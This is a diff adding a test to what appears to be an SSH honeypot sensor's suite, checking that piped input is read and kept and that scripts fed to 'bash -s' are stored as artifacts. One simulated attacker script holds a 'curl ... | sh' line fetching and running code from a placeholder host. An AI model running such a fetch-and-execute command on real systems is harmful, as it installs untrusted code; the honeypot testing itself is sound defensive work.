@@ -300,6 +300,47 @@ test('what an attacker assembles or pipes in is kept as it is, byte by byte', as
   client.end()
 })
 
+test('a line waits for its input when it reads it, and only then; what comes is kept', async () => {
+  await using lab = await testSensor()
+  const client = await connect(lab)
+  const some = Buffer.from('0123456789abcde\n'.repeat(20_000))
+  for (const [line, out] of [
+    ['wc -c', '320000\n'],
+    ['sudo wc -l', '20000\n'],
+    ['read a; echo $a; wc -l', '0123456789abcde\n19999\n'],
+    ['head -n 1 | tr a-e A-E; cat /dev/stdin', '0123456789ABCDE\n'],
+    ['n=0; while read -r line; do n=$((n+1)); [ $n = 3 ] && break; done; echo $n', '3\n'],
+    ['x=$(cat); echo ${#x}', '319999\n'],
+    ['sh -c "cat > /tmp/a"; wc -c < /tmp/a', '320000\n'],
+    ['tee -a /tmp/b | wc -c; wc -c < /tmp/b', '320000\n320000\n'],
+  ] as const)
+    expect(await exec(client, line, some), line).toEqual({ out, err: '', code: 0 })
+  // Nobody sends these anything, or an end: they do not read.
+  for (const line of ['uname', 'sudo id -un', 'ls /etc/hostname; id -un', 'sh -c "echo root"', 'su -c "id -un"']) {
+    const out = await new Promise<string>((resolve, reject) =>
+      client.exec(line, (error, stream) => {
+        if (error) return reject(error)
+        let said = ''
+        stream.on('data', (part: Buffer) => (said += part.toString())).on('close', () => resolve(said))
+      }),
+    )
+    expect(out, line).toMatch(/^(?:Linux|root|\/etc\/hostname\nroot)\n$/)
+  }
+  const script = Buffer.from(
+    '#!/bin/sh\nid -un\nread answer\nyes it is\necho "$answer"; curl -s http://192.0.2.9/next | sh\n',
+  )
+  expect((await exec(client, 'bash -s', script)).out).toBe('root\nyes it is\n')
+  const kept = await lab.until('artifact.stored', ({ data }) => data.size === script.length)
+  expect(kept.data).toMatchObject({ name: 'standard input', media: 'text/x-shellscript' })
+  const [parent] = (await lab.events()).filter((event) => event.id === kept.data.parent)
+  expect(parent).toMatchObject({ kind: 'command.run', data: { line: 'bash -s' } })
+  expect((await lab.until('payload.seen')).data.url).toBe('http://192.0.2.9/next')
+  await exec(client, 'sleep 0.5', Buffer.from('nobody reads this'))
+  await lab.until('artifact.stored', ({ data }) => data.size === 17)
+  client.end()
+  expect(lab.log).toEqual([])
+}, 60_000)
+
 test('a wish to be connected on is recorded with its first bytes, and never granted', async () => {
   await using lab = await testSensor()
   const client = await connect(lab)
